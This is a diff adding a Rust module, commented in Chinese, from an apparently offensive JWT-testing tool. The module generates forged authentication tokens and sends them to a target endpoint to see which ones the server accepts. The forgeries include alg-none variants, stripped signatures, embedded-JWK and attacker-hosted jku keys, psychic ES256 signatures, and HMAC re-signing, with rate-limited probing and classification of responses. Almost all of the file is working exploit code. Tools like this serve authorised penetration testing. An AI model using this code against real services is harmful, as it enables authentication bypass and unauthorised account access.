@@ -0,0 +1,325 @@
+//! 在线验证：把伪造或重新签名的令牌发给目标接口，根据响应判断服务端是否接受
+
+use crate::error::{Error, Result};
+use crate::utils::forge::{
+    KeyDelivery, SignatureEncoding, SpoofKey, forge_alg_none, forge_psychic_signature,
+};
+use crate::utils::jwt::{
+    HmacAlgorithm, decode_json_segment, encode_segment, sign_hmac, split_token,
+};
+use jsonwebtoken::Algorithm;
+use regex::Regex;
+use serde_json::{Value, json};
+use std::thread;
+use std::time::{Duration, Instant};
+
+/// 模板中会被替换为令牌的占位符
+pub const PLACEHOLDER: &str = "{{token}}";
+
+/// 令牌在请求中的位置
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum TokenPlacement {
+    /// `Authorization: Bearer <令牌>`
+    Bearer,
+    /// 自定义请求头，值为 `prefix` 加令牌
+    Header {
+        name: String,
+        prefix: String,
+    },
+    Cookie {
+        name: String,
+    },
+    /// URL 查询参数
+    Query {
+        name: String,
+    },
+    /// 只替换 URL、请求头和请求体中的 `{{token}}`
+    Placeholder,
+}
+
+/// 发送令牌的请求模板，URL、请求头的值和请求体中的 `{{token}}` 总会被替换
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct RequestTemplate {
+    pub method: String,
+    pub url: String,
+    pub headers: Vec<(String, String)>,
+    pub body: Option<String>,
+    pub placement: TokenPlacement,
+}
+
+impl RequestTemplate {
+    pub fn new(url: &str) -> Self {
+        Self {
+            method: "GET".to_string(),
+            url: url.to_string(),
+            headers: Vec::new(),
+            body: None,
+            placement: TokenPlacement::Bearer,
+        }
+    }
+}
+
+/// 判断响应是否表示令牌被接受，设置的条件都满足才算接受
+///
+/// 一个条件都没有设置时，状态码与基准响应（签名无效的令牌）不同就算接受
+#[derive(Debug, Clone, Default)]
+pub struct Classifier {
+    /// 接受时的状态码
+    pub status: Vec<u16>,
+    /// 接受时响应体匹配的正则
+    pub body: Option<Regex>,
+    /// 响应体长度与基准响应相差超过这么多字节
+    pub length_tolerance: Option<usize>,
+}
+
+impl Classifier {
+    pub fn accepts(&self, response: &OracleResponse, baseline: &OracleResponse) -> bool {
+        let mut checked = false;
+        if !self.status.is_empty() {
+            if !self.status.contains(&response.status) {
+                return false;
+            }
+            checked = true;
+        }
+        if let Some(body) = &self.body {
+            if !body.is_match(&response.body) {
+                return false;
+            }
+            checked = true;
+        }
+        if let Some(tolerance) = self.length_tolerance {
+            if response.body.len().abs_diff(baseline.body.len()) <= tolerance {
+                return false;
+            }
+            checked = true;
+        }
+        checked || response.status != baseline.status
+    }
+}
+
+/// 目标接口的一次响应
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct OracleResponse {
+    pub status: u16,
+    pub body: String,
+    pub elapsed: Duration,
+}
+
+/// 一个待验证的令牌
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Forgery {
+    /// 伪造方式，例如 `alg_none`、`embedded_jwk`
+    pub name: String,
+    pub token: String,
+    /// 令牌生效前需要部署到攻击者地址上的文档，例如 `jku` 指向的 JWKS
+    pub hosted_document: Option<String>,
+}
+
+impl Forgery {
+    pub fn new(name: &str, token: String) -> Self {
+        Self {
+            name: name.to_string(),
+            token,
+            hosted_document: None,
+        }
+    }
+}
+
+/// 一个令牌的验证结果
+#[derive(Debug, Clone)]
+pub struct Verdict {
+    pub forgery: Forgery,
+    pub response: OracleResponse,
+    pub accepted: bool,
+}
+
+impl Verdict {
+    pub fn to_json(&self) -> Value {
+        json!({
+            "name": self.forgery.name,
+            "token": self.forgery.token,
+            "status": self.response.status,
+            "length": self.response.body.len(),
+            "duration_secs": self.response.elapsed.as_secs_f64(),
+            "accepted": self.accepted,
+        })
+    }
+}
+
+/// 按模板发送令牌，两次请求之间至少间隔 `interval`
+pub struct Oracle {
+    agent: ureq::Agent,
+    template: RequestTemplate,
+    classifier: Classifier,
+    interval: Duration,
+    last_request: Option<Instant>,
+}
+
+impl Oracle {
+    /// `rate` 为每秒最多发送的请求数，不大于 0 时不限速
+    pub fn new(
+        template: RequestTemplate,
+        classifier: Classifier,
+        rate: f64,
+        timeout: Duration,
+    ) -> Result<Self> {
+        let interval = if rate > 0.0 {
+            Duration::try_from_secs_f64(1.0 / rate)
+                .map_err(|_| Error::InvalidConfig(format!("请求速率 {} 太小", rate)))?
+        } else {
+            Duration::ZERO
+        };
+        Ok(Self {
+            agent: ureq::AgentBuilder::new().timeout(timeout).build(),
+            template,
+            classifier,
+            interval,
+            last_request: None,
+        })
+    }
+
+    /// 发送一个令牌，4xx/5xx 也作为正常响应返回
+    pub fn send(&mut self, token: &str) -> Result<OracleResponse> {
+        if let Some(last) = self.last_request {
+            let wait = self.interval.saturating_sub(last.elapsed());
+            thread::sleep(wait);
+        }
+        self.last_request = Some(Instant::now());
+
+        let template = &self.template;
+        let fill = |text: &str| text.replace(PLACEHOLDER, token);
+        let mut request = self.agent.request(&template.method, &fill(&template.url));
+        // 放在 Cookie 中时和模板里的 Cookie 合并，否则会把它们覆盖掉
+        let mut cookies = Vec::new();
+        for (name, value) in &template.headers {
+            if matches!(template.placement, TokenPlacement::Cookie { .. })
+                && name.eq_ignore_ascii_case("cookie")
+            {
+                cookies.push(fill(value));
+            } else {
+                request = request.set(name, &fill(value));
+            }
+        }
+        request = match &template.placement {
+            TokenPlacement::Bearer => request.set("Authorization", &format!("Bearer {}", token)),
+            TokenPlacement::Header { name, prefix } => {
+                request.set(name, &format!("{}{}", prefix, token))
+            }
+            TokenPlacement::Cookie { name } => {
+                cookies.push(format!("{}={}", name, token));
+                request.set("Cookie", &cookies.join("; "))
+            }
+            TokenPlacement::Query { name } => request.query(name, token),
+            TokenPlacement::Placeholder => request,
+        };
+
+        let started = Instant::now();
+        let result = match &template.body {
+            Some(body) => request.send_string(&fill(body)),
+            None => request.call(),
+        };
+        let response = match result {
+            Ok(response) | Err(ureq::Error::Status(_, response)) => response,
+            Err(e) => return Err(Error::Network(e.to_string())),
+        };
+        let status = response.status();
+        let body = response
+            .into_string()
+            .map_err(|e| Error::Network(e.to_string()))?;
+        Ok(OracleResponse {
+            status,
+            body,
+            elapsed: started.elapsed(),
+        })
+    }
+
+    /// 先用签名无效的令牌取得基准响应，再依次验证每个令牌
+    pub fn probe<F>(
+        &mut self,
+        original: &str,
+        forgeries: &[Forgery],
+        on_verdict: F,
+    ) -> Result<Vec<Verdict>>
+    where
+        F: Fn(&Verdict),
+    {
+        let baseline = self.send(&invalid_signature(original)?)?;
+        let mut verdicts = Vec::new();
+        for forgery in forgeries {
+            let response = self.send(&forgery.token)?;
+            let verdict = Verdict {
+                accepted: self.classifier.accepts(&response, &baseline),
+                forgery: forgery.clone(),
+                response,
+            };
+            on_verdict(&verdict);
+            verdicts.push(verdict);
+        }
+        Ok(verdicts)
+    }
+}
+
+/// 保留 Header 和 Payload，把签名换成等长的无效值
+pub fn invalid_signature(token: &str) -> Result<String> {
+    let parts = split_token(token)?;
+    let signature = "A".repeat(parts.signature.len().max(43));
+    Ok(format!("{}.{}.{}", parts.header, parts.payload, signature))
+}
+
+/// 基于原令牌生成常见的伪造令牌
+///
+/// `payload` 为空时沿用原令牌的 Payload；给出 `secret` 时加入用它重新签名的令牌，
+/// 给出 `jku` 时加入 `jku` 指向该地址的令牌，需要部署的 JWKS 在它的 `hosted_document` 中
+pub fn forgeries(
+    token: &str,
+    payload: Option<&Value>,
+    secret: Option<&[u8]>,
+    jku: Option<&str>,
+) -> Result<Vec<Forgery>> {
+    let parts = split_token(token)?;
+    let header = decode_json_segment("header", parts.header)?;
+    let payload = match payload {
+        Some(payload) => payload.clone(),
+        None => decode_json_segment("payload", parts.payload)?,
+    };
+
+    let mut forgeries = vec![Forgery::new("original", token.to_string())];
+    if let Some(secret) = secret {
+        let algorithm = header
+            .get("alg")
+            .and_then(Value::as_str)
+            .and_then(HmacAlgorithm::from_name)
+            .unwrap_or(HmacAlgorithm::HS256);
+        forgeries.push(Forgery::new(
+            "resigned",
+            sign_hmac(&header, &payload, algorithm, secret),
+        ));
+    }
+    for alg in ["none", "None", "NONE", "nOnE"] {
+        forgeries.push(Forgery::new(
+            &format!("alg_{}", alg),
+            forge_alg_none(&header, &payload, alg),
+        ));
+    }
+    forgeries.push(Forgery::new(
+        "signature_stripped",
+        format!("{}.{}.", encode_segment(&header), encode_segment(&payload)),
+    ));
+    let key = SpoofKey::generate(Algorithm::RS256)?;
+    forgeries.push(Forgery::new(
+        "embedded_jwk",
+        key.sign(&header, &payload, &KeyDelivery::EmbeddedJwk)?,
+    ));
+    if let Some(url) = jku {
+        let delivery = KeyDelivery::Jku(url.to_string());
+        forgeries.push(Forgery {
+            hosted_document: key.hosted_document(&delivery),
+            ..Forgery::new("jku", key.sign(&header, &payload, &delivery)?)
+        });
+    }
+    forgeries.push(Forgery::new(
+        "psychic_es256",
+        forge_psychic_signature(&header, &payload, "ES256", SignatureEncoding::Raw)?,
+    ));
+    Ok(forgeries)
+}